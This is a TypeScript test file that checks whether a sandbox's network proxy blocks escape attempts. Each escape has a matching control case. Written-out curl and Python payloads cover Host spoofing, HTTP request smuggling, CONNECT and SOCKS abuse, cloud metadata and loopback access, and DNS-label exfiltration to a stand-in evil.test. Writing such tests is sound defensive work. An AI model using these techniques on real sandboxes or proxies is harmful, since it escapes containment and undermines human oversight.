// As root too: root's sandboxes have other ways out.
/** Ways around the rules, each with a control that the same way leads where it may. */

import { beforeAll, expect, test } from "vitest";

import { describeUnless, whyNoBubblewrap } from "../support/requirements.js";
import {
  type End,
  type Job,
  kHere,
  kOwn,
  kPrivate,
  kPublic,
  makeWorld,
} from "./made-up-internet.js";
import { whyNoOwnNetwork } from "./own-network.js";

type Way = {
  name: string;
  /** Has "yes" in its output where it gets through. */
  script: string;
  /** The same, where it may; undefined: the way has no good use. */
  control?: string;
  network?: Job["network"];
  controlNetwork?: Job["network"];
  /** What the record must have, in part. */
  record?: object;
};

const kNetwork: Job["network"] = {
  allow: ["a.test", "b.test", "a.test:9000", kPublic.name, kPrivate.name],
  ...kHere,
};
const kDirect = "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy;";
const curl = (words: string) =>
  `${kDirect} curl -sS --max-time 10 ${words} | grep -q hello && echo yes`;
const py = (program: string) =>
  `/usr/bin/python3 - << 'END'\nimport socket, struct\n${program}\nEND`;
const denied = (host: string, port?: number) => ({
  host,
  verdict: "denied",
  ...(port !== undefined && { port }),
});

/** Sends bytes to the proxy and says what came. */
const toProxy = (bytes: string, found: string) =>
  py(`s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
s.sendall(${bytes})
got = b""
try:
  while ${found.startsWith("b") ? found : `b"${found}"`} not in got:
    part = s.recv(65536)
    if not part: break
    got += part
except OSError: pass
if ${found.startsWith("b") ? found : `b"${found}"`} in got: print("yes")
print(got)`);

const connectTo = (address: string, port: number, family = "AF_INET", host = "a.test") =>
  py(`s = socket.socket(socket.${family}); s.settimeout(3)
s.connect(("${address}", ${port})); s.sendall(b"GET / HTTP/1.0\\r\\nHost: ${host}\\r\\n\\r\\n")
if b"hello" in s.recv(4096): print("yes")`);

const toName = (name: string, port: number) => connectTo(name, port, "AF_INET", name);

const dns = (name: string, type: number) =>
  py(`q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
for label in "${name}".split("."): q += bytes([len(label)]) + label.encode()
q += b"\\0" + struct.pack(">HH", ${type}, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("127.0.0.1", 53))
a = s.recv(4096); code, count = a[3] & 15, struct.unpack(">H", a[6:8])[0]
print(code, count)
if code == 0 and count > 0: print("yes")`);

const socks = (command: number, name: string, port: number) => {
  const host = `bytes([${Buffer.byteLength(name.replaceAll("\\0", "0"))}]) + b"${name.replaceAll("\\0", "\\x00")}"`;
  return py(`s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
s.sendall(b"\\x05\\x01\\x00"); s.recv(2)
s.sendall(b"\\x05" + bytes([${command}]) + b"\\x00\\x03" + ${host} + struct.pack(">H", ${port}))
a = s.recv(64); print(a)
if a[1:2] == b"\\x00": print("yes")`);
};

const smuggled = (host: string) =>
  `b"GET http://a.test/one HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\nGET http://${host}/two HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n"`;

const kWays: Way[] = [
  {
    name: "a name that no rule has",
    script: curl("http://evil.test/"),
    control: curl("http://a.test/"),
    record: denied("evil.test"),
  },
  {
    name: "another name on an allowed address, in the TLS handshake",
    script: curl("-k --connect-to evil.test:443:a.test:443 https://evil.test/"),
    control: curl("-k --connect-to a.test:443:a.test:443 https://a.test/"),
    record: denied("a.test", 443),
  },
  {
    name: "another allowed name in the TLS handshake",
    script: curl("-k --connect-to b.test:443:a.test:443 https://b.test/"),
    control: curl("-k https://b.test/"),
    record: denied("a.test", 443),
  },
  {
    name: "no TLS where it belongs",
    script: toName("a.test", 443),
    control: toName("a.test", 80),
    record: denied("a.test", 443),
  },
  {
    name: "another name in the Host field",
    script: curl("-H 'Host: evil.test' http://a.test/"),
    control: curl("-H 'Host: a.test' http://a.test/"),
    record: denied("evil.test"),
  },
  {
    name: "an address without a name",
    script: connectTo(kPublic.address, 80),
    control: toName(kPublic.name, 80),
  },
  {
    name: "an address on the sandbox's loopback",
    script: connectTo("127.0.0.1", 80),
    control: toName("a.test", 80),
    record: denied("127.0.0.1", 80),
  },
  {
    name: "an address of IPv6's loopback",
    script: connectTo("::1", 80, "AF_INET6"),
    control: toName("a.test", 80),
  },
  {
    name: "a synthetic address that no name has",
    script: connectTo("127.1.200.200", 80),
    control: toName("a.test", 80),
  },
  {
    name: "the address of cloud metadata",
    script: connectTo("169.254.169.254", 80),
    control: toName("a.test", 80),
  },
  {
    name: "a port that no rule has",
    script: toName("b.test", 9000),
    control:
      py(`s = socket.create_connection(("a.test", 9000)); s.sendall(b"hello"); s.settimeout(5)
if s.recv(5) == b"hello": print("yes")`),
    record: denied("b.test", 9000),
  },
  {
    name: "an allowed name that leads to an address that is not public",
    network: { allow: ["private.test"] },
    script: curl("http://private.test/"),
    control: curl("http://private.test/"),
    controlNetwork: { allow: ["private.test"], allowPrivate: ["10.0.0.0/8"] },
    record: { ...denied("private.test", 80), address: kPrivate.address },
  },
  {
    name: "an allowed name that leads to the host's loopback",
    network: { allow: ["a.test"] },
    script: curl("http://a.test/"),
    control: curl(`http://${kPublic.name}/`),
    controlNetwork: { allow: [kPublic.name] },
    record: { ...denied("a.test", 80), address: "127.0.0.1" },
  },
  {
    name: "an allowed name that leads to the host's own public address",
    network: { allow: [kOwn.name] },
    script: curl(`http://${kOwn.name}/`),
    control: curl(`http://${kOwn.name}/`),
    controlNetwork: { allow: [kOwn.name], allowPrivate: [kOwn.address] },
    record: { ...denied(kOwn.name, 80), address: kOwn.address, reason: "it leads to this machine" },
  },
  {
    name: "what is denied, though a wildcard allows it",
    network: { allow: ["*.test"], deny: ["evil.test"], ...kHere },
    script: curl("http://evil.test/"),
    control: curl("http://b.test/"),
    record: { ...denied("evil.test"), rule: "evil.test" },
  },
  {
    name: "an empty list",
    network: { allow: [], ...kHere },
    script: curl("http://a.test/"),
    control: curl("http://a.test/"),
    controlNetwork: kNetwork,
  },
  {
    name: "UDP to another than the resolver",
    script: py(`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(b"x", ("${kPublic.address}", 9000)); s.recv(10); print("yes")`),
    control: dns("a.test", 1),
  },
  {
    name: "QUIC's port",
    script: py(`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
s.connect((socket.gethostbyname("a.test"), 443)); s.send(b"\\xc3" * 1200); s.recv(10); print("yes")`),
    control: curl("-k https://a.test/"),
  },
  {
    name: "ICMP",
    script:
      py(`s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("${kPublic.address}", 0)); s.recv(10); print("yes")`),
    control: curl("http://a.test/"),
  },
  {
    name: "a raw socket",
    script: py(`socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("yes")`),
    control: curl("http://a.test/"),
  },
  {
    name: "a question for TXT",
    script: dns("a.test", 16),
    control: dns("a.test", 1),
  },
  {
    name: "data in a question for a name",
    script: dns("c2VjcmV0.evil.test", 1),
    control: dns("b.test", 1),
    record: denied("c2VjcmV0.evil.test".toLowerCase()),
  },
  {
    name: "CONNECT to a port that no rule has",
    script: toProxy('b"CONNECT b.test:9000 HTTP/1.1\\r\\nHost: b.test:9000\\r\\n\\r\\n"', " 200 "),
    control: toProxy('b"CONNECT a.test:9000 HTTP/1.1\\r\\nHost: a.test:9000\\r\\n\\r\\n"', " 200 "),
    record: denied("b.test", 9000),
  },
  {
    name: "CONNECT to an address",
    script: toProxy(
      `b"CONNECT ${kPublic.address}:80 HTTP/1.1\\r\\nHost: ${kPublic.address}:80\\r\\n\\r\\n"`,
      " 200 ",
    ),
    control: toProxy(
      `b"CONNECT ${kPublic.name}:80 HTTP/1.1\\r\\nHost: ${kPublic.name}:80\\r\\n\\r\\n"`,
      " 200 ",
    ),
    record: denied(kPublic.address, 80),
  },
  {
    name: "CONNECT to the proxy itself",
    script: toProxy(
      'b"CONNECT localhost:3128 HTTP/1.1\\r\\nHost: localhost:3128\\r\\n\\r\\n"',
      " 200 ",
    ),
    control: toProxy('b"CONNECT a.test:80 HTTP/1.1\\r\\nHost: a.test:80\\r\\n\\r\\n"', " 200 "),
    record: denied("localhost", 3128),
  },
  {
    name: "a Host that is not the target's",
    script: toProxy('b"GET http://a.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"', "hello"),
    control: toProxy('b"GET http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n"', "hello"),
  },
  {
    name: "a second request on a kept connection",
    script: toProxy(smuggled("evil.test"), "hello from evil.test"),
    control: toProxy(smuggled("b.test"), "hello from b.test"),
    record: denied("evil.test", 80),
  },
  {
    name: "a request hidden in a body of two lengths",
    script: toProxy(
      'b"POST http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"',
      "hello",
    ),
    control: toProxy(
      'b"POST http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 4\\r\\n\\r\\nbody"',
      "hello",
    ),
  },
  {
    name: "a line that ends in LF alone",
    script: toProxy('b"GET http://a.test/ HTTP/1.1\\nHost: a.test\\n\\n"', "hello"),
    control: toProxy('b"GET http://a.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n"', "hello"),
  },
  {
    name: "a NUL in the name that SOCKS is asked for",
    script: socks(1, "evil.test\\0.a.test", 80),
    control: socks(1, "a.test", 80),
  },
  { name: "SOCKS' BIND", script: socks(2, "a.test", 80), control: socks(1, "a.test", 80) },
  {
    name: "SOCKS' UDP ASSOCIATE",
    script: socks(3, "a.test", 80),
    control: socks(1, "a.test", 80),
  },
  {
    name: "an address that SOCKS is given as a name",
    script: socks(1, kPublic.address, 80),
    control: socks(1, kPublic.name, 80),
    record: denied(kPublic.address, 80),
  },
  {
    name: "an address in octal",
    script: socks(1, "013.026.041.054", 80),
    control: socks(1, kPublic.name, 80),
  },
  {
    name: "a resolver of the host's, by another file",
    script: `echo 'nameserver 9.9.9.9' > /etc/resolv.conf 2> /dev/null && echo yes`,
    control: "grep -q 127.0.0.1 /etc/resolv.conf && echo yes",
  },
];

describeUnless(whyNoBubblewrap ?? whyNoOwnNetwork, "no way out by", () => {
  const ends = new Map<string, { way: End; control: End }>();
  beforeAll(async () => {
    const world = makeWorld();
    const jobs = kWays.flatMap(
      ({ script, control = "echo yes", network = kNetwork, controlNetwork }) => [
        { network, script },
        { network: controlNetwork ?? network, script: control },
      ],
    );
    const done = await world.run(jobs);
    for (const [at, { name }] of kWays.entries()) {
      ends.set(name, { way: done[2 * at] as End, control: done[2 * at + 1] as End });
    }
  }, 300_000);

  test.each(kWays)("$name", ({ name, record }) => {
    const { way, control } = ends.get(name) as { way: End; control: End };
    expect(control.out, `${control.err} ${JSON.stringify(control.connections)}`).toContain("yes");
    expect(way.error).toBeUndefined();
    expect(way.out, JSON.stringify(way.connections)).not.toContain("yes");
    const reached = way.hits.filter(({ url }) => url !== "/one");
    expect(reached).toEqual([]);
    if (record !== undefined)
      expect(way.connections).toContainEqual(expect.objectContaining(record));
  });
});
